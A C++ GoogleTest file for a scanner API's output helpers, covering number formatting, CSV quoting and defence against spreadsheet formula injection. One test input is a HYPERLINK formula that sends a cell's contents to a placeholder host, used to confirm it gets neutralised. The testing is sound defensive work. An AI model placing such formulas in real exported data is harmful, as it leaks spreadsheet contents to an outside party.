#include "api/answers/item_fields.hpp"

#include <gtest/gtest.h>

#include <array>
#include <string>

namespace scanner::api {
namespace {

std::string number(double value) {
    core::JsonWriter json;
    write_number(json, value);
    return json.take();
}

TEST(WriteNumber, shows_whole_numbers_plainly_and_others_exactly) {
    EXPECT_EQ(number(2e7), "20000000");
    EXPECT_EQ(number(0.0), "0");
    EXPECT_EQ(number(-0.0), "0");
    EXPECT_EQ(number(-3.0), "-3");
    EXPECT_EQ(number(0.1), "0.1");
    EXPECT_EQ(number(84'066.9), "84066.9");
    EXPECT_EQ(number(9'007'199'254'740'991.0), "9007199254740991");
    EXPECT_EQ(std::stod(number(1e300)), 1e300);
}

std::string csv(const FieldValue& value) {
    std::string out;
    append_csv(out, value);
    return out;
}

TEST(Csv, quotes_only_what_needs_it) {
    EXPECT_EQ(csv(std::string_view("BTC/USDT:USDT")), "BTC/USDT:USDT");
    EXPECT_EQ(csv(std::string_view("a,b")), "\"a,b\"");
    EXPECT_EQ(csv(std::string_view("say \"x\"")), "\"say \"\"x\"\"\"");
    EXPECT_EQ(csv(std::string_view("a\r\nb")), "\"a\r\nb\"");
    EXPECT_EQ(csv(FieldValue()), "");
    EXPECT_EQ(csv(FieldValue(1.5)), "1.5");
    EXPECT_EQ(csv(FieldValue(std::int64_t{7})), "7");
    const std::array<std::string_view, 2> flags{"scam_wick", "liquidity_wall"};
    EXPECT_EQ(csv(FieldValue(std::span<const std::string_view>(flags))), "scam_wick|liquidity_wall");
}

TEST(Csv, gives_a_spreadsheet_nothing_to_compute) {
    for (const std::string start : {"=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
        EXPECT_EQ(csv(std::string_view(start + "1")), "'" + start + "1");
    }
    EXPECT_EQ(csv(std::string_view("=HYPERLINK(\"http://x/?\"&B2,\"ok\")")),
              R"x("'=HYPERLINK(""http://x/?""&B2,""ok"")")x");
    EXPECT_EQ(csv(std::string_view("\t=1")), "\"'\t=1\"");
    EXPECT_EQ(csv(std::string_view("\r=1")), "\"'\r=1\"");
    EXPECT_EQ(csv(std::string_view("a=1-1")), "a=1-1");
    const std::array<std::string_view, 2> texts{"=1", "x"};
    EXPECT_EQ(csv(FieldValue(std::span<const std::string_view>(texts))), "'=1|x");
    EXPECT_EQ(csv(FieldValue(-1.5)), "-1.5") << "numbers stay numbers";
}

TEST(ItemFields, are_found_by_their_exact_name) {
    for (const ItemField& field : item_fields()) EXPECT_EQ(find_item_field(field.name), &field);
    EXPECT_EQ(find_item_field("Score"), nullptr);
    EXPECT_EQ(find_item_field(""), nullptr);
}

}  // namespace
}  // namespace scanner::api
